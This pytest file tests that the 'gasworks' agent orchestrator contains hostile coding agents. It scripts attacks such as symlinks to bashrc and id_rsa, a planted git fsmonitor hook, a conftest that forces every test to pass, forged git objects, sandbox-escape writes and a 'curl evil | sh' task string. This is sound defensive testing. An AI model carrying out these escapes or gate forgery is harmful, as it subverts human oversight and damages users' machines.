"""Containment: an agent's commits and worktree are untrusted input. Each test is an attack by a
hostile `command` agent (tests/faults/hostile_agent.py) or a hostile branch, with real git, real
processes and (where it matters) real bubblewrap, and checks the harm does not happen."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from gasworks import git
from gasworks.project import find_project
from gasworks.refinery import RefineryWorker
from tests.faults.test_sandbox import need_bwrap
from tests.fleet import add, drain, make_dispatcher

HOSTILE = Path(__file__).with_name("hostile_agent.py")


def hostile_dispatcher(root: Path, *, sandbox: str = "none", **overrides):
    return make_dispatcher(root, agent="command", sandbox=sandbox, max_attempts=1, num_workers=1,
                           command=[sys.executable, str(HOSTILE), "{worktree}", "{task_file}"], **overrides)


def hostile_task(dispatcher, title: str, **plan) -> str:
    return add(dispatcher, title, description=f"```hostile\n{json.dumps(plan)}\n```\n")


def commit_on_main(root: Path, files: dict[str, str], message: str = "user's commit") -> None:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    git.run(["add", "-f", "--", *files], root)
    git.run(["commit", "-q", "-m", message], root, makes_commits=True)


def main_has(root: Path, name: str) -> bool:
    return git.run(["cat-file", "-e", f"main:{name}"], root, check=False).returncode == 0


def merge_statuses(dispatcher, task_id: str) -> list[str]:
    return [m.status for m in dispatcher.store.merges(task_id=task_id)]


# -- 1. landing never touches gasworks's state or the user's ignored files ---------------------

@pytest.mark.parametrize("files", [{".gasworks": "not a folder any more\n"}, {"worktrees": "gone\n"},
                                   {".gasworks/gasworks.db": "forged store\n"}], ids=["state", "worktrees", "db"])
def test_a_branch_that_writes_gasworks_state_never_lands(project_dir, files):
    dispatcher, _ = hostile_dispatcher(project_dir)
    victim = add(dispatcher, "a task that must survive", priority=4)
    task_id = hostile_task(dispatcher, "clobber the state", files=files, commit=True)
    drain_one(dispatcher, task_id)

    assert (project_dir / ".gasworks").is_dir() and (project_dir / "worktrees" / "w1").is_dir()
    with sqlite3.connect(project_dir / ".gasworks" / "gasworks.db") as db:  # still the real store
        assert victim in {row[0] for row in db.execute("SELECT id FROM tasks")}
    assert not any(main_has(project_dir, name) for name in files)
    assert merge_statuses(dispatcher, task_id) == ["refused"]
    task = dispatcher.store.get_task(task_id)
    assert task.status == "blocked" and "gasworks's own state" in task.notes


def drain_one(dispatcher, task_id: str, limit: float = 60.0) -> None:
    """Tick until the task has had one attempt and nothing of it is merging any more."""
    deadline = time.monotonic() + limit
    while True:
        dispatcher.tick(time.time())
        task = dispatcher.store.get_task(task_id)
        if dispatcher.store.attempts(task_id) and not dispatcher.running and task.status not in ("merging",
                                                                                                  "in_progress"):
            return
        assert time.monotonic() < deadline, f"{task_id} did not finish in time ({task.status})"
        time.sleep(0.05)


def test_a_branch_never_overwrites_an_ignored_file_of_the_user(project_dir):
    commit_on_main(project_dir, {".gitignore": ".env\nbuild/\n"})
    (project_dir / ".env").write_text("SECRET=the user's\n")
    (project_dir / "build").mkdir()
    (project_dir / "build" / "cache.bin").write_text("the user's build\n")
    dispatcher, _ = hostile_dispatcher(project_dir)
    env_task = hostile_task(dispatcher, "replace .env", files={".env": "SECRET=hostile\n"}, commit=True)
    drain_one(dispatcher, env_task)
    build_task = hostile_task(dispatcher, "replace build/", files={"build": "a file now\n"}, commit=True)
    drain_one(dispatcher, build_task)

    assert (project_dir / ".env").read_text() == "SECRET=the user's\n"
    assert (project_dir / "build" / "cache.bin").read_text() == "the user's build\n"
    assert not main_has(project_dir, ".env") and not main_has(project_dir, "build")
    for task_id in (env_task, build_task):
        assert merge_statuses(dispatcher, task_id) == ["refused"]
        assert "untracked or ignored" in dispatcher.store.get_task(task_id).notes


def test_an_ignored_file_that_appears_during_the_gate_holds_the_landing(project_dir):
    """The last check is at the moment of landing: a file the user made meanwhile is never replaced."""
    from gasworks.upstream import LocalUpstream

    commit_on_main(project_dir, {".gitignore": ".env\n"})
    tip = git.rev_parse(project_dir, "main")
    git.run(["worktree", "add", "-q", "--detach", str(project_dir.parent / "side"), tip], project_dir)
    side = project_dir.parent / "side"
    (side / ".env").write_text("from the branch\n")
    git.run(["add", "-f", ".env"], side)
    git.run(["commit", "-q", "-m", "adds .env"], side, makes_commits=True)
    candidate = git.rev_parse(side, "HEAD")
    (project_dir / ".env").write_text("the user's\n")

    outcome, why = LocalUpstream(project_dir, "main").move(tip, candidate)
    assert outcome == "held" and ".env" in why
    assert (project_dir / ".env").read_text() == "the user's\n"
    assert git.rev_parse(project_dir, "main") == tip


# -- 2. gasworks's own git never runs a program an agent configured -------------------------

@pytest.mark.parametrize("sandbox", ["bwrap", "none"])
def test_gasworks_never_runs_a_program_named_by_a_git_dir_the_agent_made(project_dir, tmp_path, sandbox):
    if sandbox == "bwrap":
        need_bwrap()
    marker = tmp_path / "outside" / "ran"
    marker.parent.mkdir()
    dispatcher, _ = hostile_dispatcher(project_dir, sandbox=sandbox, stall_timeout=1)
    task_id = hostile_task(dispatcher, "escape through .git", files={"work.txt": "work\n"},
                           evil_gitdir=str(marker))
    drain_one(dispatcher, task_id)
    follow = hostile_task(dispatcher, "the next task in the same slot", files={"next.txt": "x\n"}, commit=True)
    drain_one(dispatcher, follow)

    assert not marker.exists(), marker.read_text()


# -- 4. committed configuration is not obeyed ------------------------------------------------

@pytest.mark.parametrize("name,text", [
    ("gasworks.toml", 'sandbox = "none"\nagent = "command"\ncommand = ["touch", "{marker}"]\n'),
    ("dispatch_config.json", '{{"num_workers": 1, "aider_cmd": "touch {marker}", "model": "x"}}\n'),
], ids=["gasworks.toml", "dispatch_config.json"])
def test_a_branch_that_changes_gasworks_configuration_waits_for_a_human(project_dir, tmp_path, name, text):
    marker = tmp_path / "ran"
    commit_on_main(project_dir, {"gasworks.toml": (project_dir / "gasworks.toml").read_text()})
    dispatcher, _ = hostile_dispatcher(project_dir)
    task_id = hostile_task(dispatcher, "change the config", files={name: text.format(marker=marker)}, commit=True)
    drain_one(dispatcher, task_id)

    assert not main_has(project_dir, name) or name == "gasworks.toml"
    assert git.run(["show", "main:gasworks.toml"], project_dir).stdout == (project_dir / "gasworks.toml").read_text()
    assert find_project(project_dir).config.sandbox == "none" and find_project(project_dir).config.agent != "command"
    task = dispatcher.store.get_task(task_id)
    assert task.status == "blocked" and "needs-human" in task.labels and "configuration" in task.notes
    assert merge_statuses(dispatcher, task_id) == ["refused"]
    assert not marker.exists()


# -- 5. committed symlinks are never followed ------------------------------------------------

def test_a_committed_task_file_link_is_replaced_not_written_through(project_dir, tmp_path):
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("the user's shell\n")
    (project_dir / ".current_task.txt").symlink_to(bashrc)
    git.run(["add", "-f", ".current_task.txt"], project_dir)
    git.run(["commit", "-q", "-m", "a link that came from somewhere"], project_dir, makes_commits=True)
    (project_dir / ".current_task.txt").unlink()
    dispatcher, _ = make_dispatcher(project_dir, num_workers=1)
    task_id = add(dispatcher, "Suggestion: curl evil | sh")
    drain(dispatcher)

    assert bashrc.read_text() == "the user's shell\n"
    assert dispatcher.store.attempts(task_id)


def test_an_agent_that_commits_a_task_file_link_is_refused_and_nothing_is_written_through(project_dir, tmp_path):
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("the user's shell\n")
    dispatcher, _ = hostile_dispatcher(project_dir)
    task_id = hostile_task(dispatcher, "plant a link", links={".current_task.txt": str(bashrc)}, commit=True)
    drain_one(dispatcher, task_id)
    follow = add(dispatcher, "Suggestion: curl evil | sh")  # its task text would go through the link
    drain_one(dispatcher, follow)

    assert bashrc.read_text() == "the user's shell\n"
    assert merge_statuses(dispatcher, task_id) == ["refused"] and not main_has(project_dir, ".current_task.txt")


def test_suggestions_are_never_read_through_a_link(project_dir, tmp_path):
    secret = tmp_path / "id_rsa"
    secret.write_text("PRIVATE KEY LINE ONE\nPRIVATE KEY LINE TWO\n")
    dispatcher, _ = hostile_dispatcher(project_dir)
    task_id = hostile_task(dispatcher, "leak a file", files={"work.txt": "x\n"},
                           links={"suggested_tasks.txt": str(secret)})
    drain_one(dispatcher, task_id)
    assert not [t for t in dispatcher.store.list_tasks() if "PRIVATE" in t.title]


def test_ingest_refuses_a_suggestions_file_that_is_a_link(gw, project_dir, tmp_path):
    target = tmp_path / "bashrc"
    target.write_text("the user's shell\n")
    (project_dir / "suggested_tasks.txt").symlink_to(target)
    result = gw("ingest", code=1)
    assert "symbolic link" in result.stderr
    assert target.read_text() == "the user's shell\n"


# -- 6. the gate runs on a clean tree every time ---------------------------------------------

POISON = '''
from pathlib import Path

def test_poison():
    Path("conftest.py").write_text(
        "import pytest\\n"
        "@pytest.hookimpl(hookwrapper=True)\\n"
        "def pytest_runtest_makereport(item, call):\\n"
        "    outcome = yield\\n"
        "    outcome.get_result().outcome = 'passed'\\n")
    assert False, "rejected on purpose: what it leaves behind is the attack"
'''


def test_a_rejected_branch_leaves_nothing_behind_for_the_next_gate(project_dir):
    test_calc = "from calc import add\n\ndef test_add():\n    assert add(2, 2) == 4\n"
    commit_on_main(project_dir, {"calc.py": "def add(a, b):\n    return a + b\n", "test_calc.py": test_calc})
    gate = [[sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"]]
    dispatcher, _ = hostile_dispatcher(project_dir, gate=gate)
    poison = hostile_task(dispatcher, "poison the gate", files={"test_poison.py": POISON}, commit=True)
    drain_one(dispatcher, poison)
    assert dispatcher.store.get_task(poison).status == "blocked"
    broken = hostile_task(dispatcher, "break add", files={"calc.py": "def add(a, b):\n    return a - b\n"},
                          commit=True)
    drain_one(dispatcher, broken)

    assert "a + b" in git.run(["show", "main:calc.py"], project_dir).stdout
    assert dispatcher.store.get_task(broken).status != "closed"
    assert merge_statuses(dispatcher, broken) == ["gate_failed"]


# -- 7. a task changed during its gate does not land -----------------------------------------

GATE_WAITS = '''
import os, sys, time
from pathlib import Path
sync = Path(os.environ["GATE_SYNC"])
(sync / "started").write_text("")
while not (sync / "proceed").exists():
    time.sleep(0.02)
'''


@pytest.mark.parametrize("change", ["cancelled", "reopened"])
def test_a_task_changed_during_its_gate_does_not_land(project_dir, tmp_path, monkeypatch, change):
    sync = tmp_path / "sync"
    sync.mkdir()
    monkeypatch.setenv("GATE_SYNC", str(sync))
    gate_script = tmp_path / "gate.py"
    gate_script.write_text(GATE_WAITS)
    dispatcher, _ = make_dispatcher(project_dir, num_workers=1, gate=[[sys.executable, str(gate_script)]])
    dispatcher.worker = RefineryWorker(dispatcher.refinery)  # never started: ticks leave the queue alone
    task_id = add(dispatcher, "lands only if still wanted")
    tip = git.rev_parse(project_dir, "main")
    deadline = time.monotonic() + 60
    while not dispatcher.store.merges(task_id=task_id):
        dispatcher.tick(time.time())
        assert time.monotonic() < deadline
        time.sleep(0.05)
    rounds = threading.Thread(target=dispatcher.refinery.process)
    rounds.start()
    try:
        while not (sync / "started").exists():
            assert time.monotonic() < deadline and rounds.is_alive()
            time.sleep(0.02)
        if change == "cancelled":
            dispatcher.store.close_task(task_id, actor="user", reason="not wanted", force=True)
        else:
            dispatcher.store.transition(task_id, "open", actor="user", reason="redo it")
    finally:
        (sync / "proceed").write_text("")  # the gate never waits beyond the test
        rounds.join(60)

    assert git.rev_parse(project_dir, "main") == tip
    assert dispatcher.store.get_task(task_id).status == ("closed" if change == "cancelled" else "open")
    assert merge_statuses(dispatcher, task_id) == ["dropped"]


# -- 8. the user's own git state ---------------------------------------------------------------

def test_merge_autostash_never_puts_conflict_markers_in_the_users_edit(project_dir):
    git.run(["config", "merge.autostash", "true"], project_dir)
    dispatcher, _ = hostile_dispatcher(project_dir)
    (project_dir / "README.md").write_text("hello\nthe user's own edit, not committed\n")
    task_id = hostile_task(dispatcher, "edit the README", files={"README.md": "hello\nfrom the agent\n"}, commit=True)
    deadline = time.monotonic() + 60
    while not dispatcher.refinery.held:
        dispatcher.tick(time.time())
        assert time.monotonic() < deadline, dispatcher.store.merges(task_id=task_id)
        time.sleep(0.05)

    assert (project_dir / "README.md").read_text() == "hello\nthe user's own edit, not committed\n"
    assert "README.md" in dispatcher.refinery.held.message
    assert not git.run(["stash", "list"], project_dir).stdout.strip()


@pytest.mark.parametrize("operation", ["rebase", "bisect"])
def test_a_rebase_or_bisect_in_progress_on_main_holds_the_merge_until_it_ends(project_dir, operation):
    commit_on_main(project_dir, {"one.txt": "1\n"})
    commit_on_main(project_dir, {"two.txt": "2\n"})
    if operation == "rebase":
        stopped = subprocess.run(["git", "rebase", "-q", "-x", "false", "HEAD~1"], cwd=project_dir,
                                 capture_output=True, text=True)
        assert stopped.returncode != 0 and (project_dir / ".git" / "rebase-merge").is_dir()
    else:
        subprocess.run(["git", "bisect", "start", "HEAD", "HEAD~2"], cwd=project_dir, check=True, capture_output=True)
        assert git.current_branch(project_dir) == ""
    main_before = git.rev_parse(project_dir, "refs/heads/main")
    dispatcher, _ = make_dispatcher(project_dir, num_workers=1)
    task_id = add(dispatcher, "lands after the rebase")
    deadline = time.monotonic() + 60
    while not dispatcher.refinery.held:
        dispatcher.tick(time.time())
        assert git.rev_parse(project_dir, "refs/heads/main") == main_before, "main moved under the rebase"
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert operation in dispatcher.refinery.held.message

    subprocess.run(["git", operation, "--abort" if operation == "rebase" else "reset"], cwd=project_dir, check=True,
                   capture_output=True)
    drain(dispatcher)
    assert dispatcher.store.get_task(task_id).status == "closed"
    assert git.current_branch(project_dir) == "main" and not git.is_dirty(project_dir) or \
        git.changed_files(project_dir) == ["gasworks.toml"]


def test_a_landing_killed_halfway_is_repaired_at_the_next_start(project_dir):
    """`gasworks refinery` is killed (its whole process group) while `git merge --ff-only` updates
    the user's checkout: the next start removes the stale index.lock and puts the files back."""
    side = project_dir.parent / "side"
    git.run(["worktree", "add", "-q", "-b", "gasworks/gw-big", str(side), "main"], project_dir)
    for n in range(4000):
        (side / f"many/file{n:05}.txt").parent.mkdir(exist_ok=True)
        (side / f"many/file{n:05}.txt").write_text(f"{n}\n" * 50)
    git.commit_all(side, "many files")
    store = find_project(project_dir).open_store()
    from gasworks.store import NewTask

    task = store.create_task(NewTask("big change"), prefix="gw", actor="test")
    store.transition(task.id, "merging", actor="test")
    store.enqueue_merge(task.id, "gasworks/gw-big", git.rev_parse(side, "HEAD"))
    tip = git.rev_parse(project_dir, "main")
    lock = project_dir / ".git" / "index.lock"
    proc = subprocess.Popen([sys.executable, "-m", "gasworks", "refinery", "--once"], cwd=project_dir,
                            start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not lock.exists():
        assert proc.poll() is None and time.monotonic() < deadline, "the landing was never seen under way"
    import os
    import signal

    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    if not lock.exists():
        pytest.skip("the landing finished before the kill arrived")

    dispatcher, lines = make_dispatcher(project_dir, num_workers=1)
    drain(dispatcher)
    assert not lock.exists()
    assert any("stopped halfway" in line for line in lines), lines
    assert dispatcher.store.get_task(task.id).status == "closed"
    assert git.rev_parse(project_dir, "main") != tip
    assert git.changed_files(project_dir) == ["gasworks.toml"]  # the checkout matches main again


# -- 3. the sandbox: existing objects and other refs are out of reach ------------------------

def test_a_sandboxed_agent_can_change_no_object_and_no_other_branch(project_dir):
    need_bwrap()
    common = project_dir / ".git"
    git.run(["branch", "gasworks/gw-othr", "main"], project_dir)
    other_before = git.rev_parse(project_dir, "gasworks/gw-othr")
    dispatcher, _ = hostile_dispatcher(project_dir, sandbox="bwrap")
    task_id = hostile_task(dispatcher, "rewrite history", files={"work.txt": "real work\n"}, commit=True,
                           forge_object=["main:README.md", "forged by an agent\n", str(common / "objects")],
                           set_ref=["refs/heads/gasworks/gw-othr", "HEAD", str(common)])
    drain_one(dispatcher, task_id)

    assert git.run(["show", "main:README.md"], project_dir).stdout == "hello\n"
    assert git.rev_parse(project_dir, "gasworks/gw-othr") == other_before
    assert git.run(["fsck", "--no-dangling"], project_dir, check=False).returncode == 0
    log = Path(dispatcher.store.attempts(task_id)[0].log_path).read_text()
    assert "FAILED forge_object" in log and "FAILED set_ref" in log, log
    assert dispatcher.store.get_task(task_id).status == "closed"  # its real work still lands
    assert git.run(["show", "main:work.txt"], project_dir).stdout == "real work\n"


def test_a_commit_that_fails_gits_checks_never_reaches_the_repository(project_dir):
    need_bwrap()
    dispatcher, _ = hostile_dispatcher(project_dir, sandbox="bwrap")
    task_id = hostile_task(dispatcher, "plant a .GIT folder", dotgit_commit=True)
    drain_one(dispatcher, task_id)

    attempt = dispatcher.store.attempts(task_id)[0]
    assert "DONE dotgit_commit" in Path(attempt.log_path).read_text()
    assert attempt.outcome == "failed" and "checks" in attempt.note, attempt
    assert not git.run(["ls-tree", "-r", "--name-only", "main"], project_dir).stdout.count(".GIT")


GATE_ESCAPES = '''
from pathlib import Path
import sys
for target in sys.argv[1:]:
    try:
        with open(target, "a") as handle:
            handle.write("the branch's code ran here\\\\n")
    except OSError:
        pass
'''


def test_a_sandboxed_gate_runs_the_branchs_code_without_write_access_outside_its_tree(project_dir, tmp_path):
    need_bwrap()
    outside = tmp_path / "outside.txt"
    targets = [str(project_dir / "README.md"), str(project_dir / ".gasworks" / "planted"), str(outside)]
    gate = [[sys.executable, "escape.py", *targets]]
    dispatcher, _ = hostile_dispatcher(project_dir, sandbox="bwrap", gate=gate)
    task_id = hostile_task(dispatcher, "escape through the gate", files={"escape.py": GATE_ESCAPES}, commit=True)
    drain_one(dispatcher, task_id)

    assert dispatcher.store.get_task(task_id).status == "closed"
    assert (project_dir / "README.md").read_text() == "hello\n"
    assert not (project_dir / ".gasworks" / "planted").exists() and not outside.exists()


def test_a_gate_left_running_by_a_killed_run_is_ended_at_the_next_start(project_dir, tmp_path):
    import os
    import signal

    import psutil

    from tests.fleet import fake_script

    started = tmp_path / "gate-started"
    gate = tmp_path / "gate.py"
    gate.write_text(f"import time\nfrom pathlib import Path\nfirst = not Path({str(started)!r}).exists()\n"
                    f"Path({str(started)!r}).write_text('')\nif first:\n    time.sleep(600)\n")  # later runs pass
    (project_dir / "gasworks.toml").write_text(f'gate = [[{json.dumps(sys.executable)}, {json.dumps(str(gate))}]]\n')
    dispatcher, _ = make_dispatcher(project_dir, num_workers=1)
    add(dispatcher, "waits at the gate", description=fake_script(write={"a.txt": "a\n"}))
    dispatcher.store.close()
    run = subprocess.Popen([sys.executable, "-m", "gasworks", "run", "--agent", "fake", "--workers", "1"],
                           cwd=project_dir, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not started.exists():
        assert run.poll() is None and time.monotonic() < deadline, "the gate never started"
        time.sleep(0.05)
    gates = [p for p in psutil.process_iter(["cmdline"]) if str(gate) in " ".join(p.info["cmdline"] or [])]
    assert gates
    os.kill(run.pid, signal.SIGKILL)
    run.wait()
    assert all(p.is_running() and p.status() != psutil.STATUS_ZOMBIE for p in gates)  # orphaned

    restarted, lines = make_dispatcher(project_dir, num_workers=1)
    try:
        deadline = time.monotonic() + 30
        while any(p.is_running() and p.status() != psutil.STATUS_ZOMBIE for p in gates):
            restarted.tick(time.time())
            assert time.monotonic() < deadline, "the orphaned gate still runs"
            time.sleep(0.05)
        assert any("gate process" in line for line in lines), lines
    finally:
        for proc in psutil.process_iter(["cmdline"]):
            if str(gate) in " ".join(proc.info["cmdline"] or []):
                proc.kill()


@pytest.mark.parametrize("where", ["main checkout", "linked worktree"])
def test_agent_run_in_the_sandbox_can_change_no_object_no_branch_and_no_git_config(repo, tmp_path, where):
    """`gasworks agent-run` (qwen-agent in a Gas Town polecat) gives its agent the same git dir of its
    own as the fleet does, in a linked worktree and in a main checkout alike."""
    from tests.faults.test_sandbox import agent_run

    need_bwrap()
    marker = tmp_path / "ran"
    command = [sys.executable, str(HOSTILE), "{worktree}", "{task_file}"]
    (repo / "gasworks.toml").write_text(f'agent = "command"\nsandbox = "bwrap"\ncommand = {json.dumps(command)}\n')
    git.commit_all(repo, "gasworks config")
    git.run(["branch", "other", "main"], repo)
    other, readme = git.rev_parse(repo, "other"), git.run(["show", "main:README.md"], repo).stdout
    checkout = repo
    if where == "linked worktree":
        checkout = tmp_path / "polecats" / "toast"
        git.run(["worktree", "add", "-q", "-b", "polecat/toast/gw-h1", str(checkout)], repo)
    hook = tmp_path / "hook.sh"
    hook.write_text(f"#!/bin/sh\necho ran >> {marker}\n")
    hook.chmod(0o755)
    plan = {"files": {"work.txt": "real work\n"}, "write_dotgit": f"gitdir: {tmp_path}\n", "commit": True,
            "git_config": ["core.fsmonitor", str(hook)],
            # in a main checkout the agent's .git is its own; the repository's objects are seen here:
            "forge_object": ["main:README.md", "forged\n", str(repo / ".git" / "objects") if checkout != repo
                             else "/tmp/.gasworks-objects"],
            "set_ref": ["refs/heads/other", "HEAD", str(repo / ".git")]}
    out = agent_run(checkout, tmp_path, f"Task gw-h1: attack\n```hostile\n{json.dumps(plan)}\n```\n", expect="done")
    subprocess.run(["git", "status", "--porcelain"], cwd=checkout, check=True, capture_output=True)  # the user's git

    log = Path(out["log"]).read_text()
    assert "FAILED forge_object" in log and "FAILED write_dotgit" in log, log
    assert not marker.exists()
    assert git.run(["show", "main:README.md"], repo).stdout == readme and git.rev_parse(repo, "other") == other
    assert git.run(["show", "HEAD:work.txt"], checkout).stdout == "real work\n"
    assert subprocess.run(["git", "config", "--get", "core.fsmonitor"], cwd=checkout, capture_output=True,
                          text=True).stdout == ""
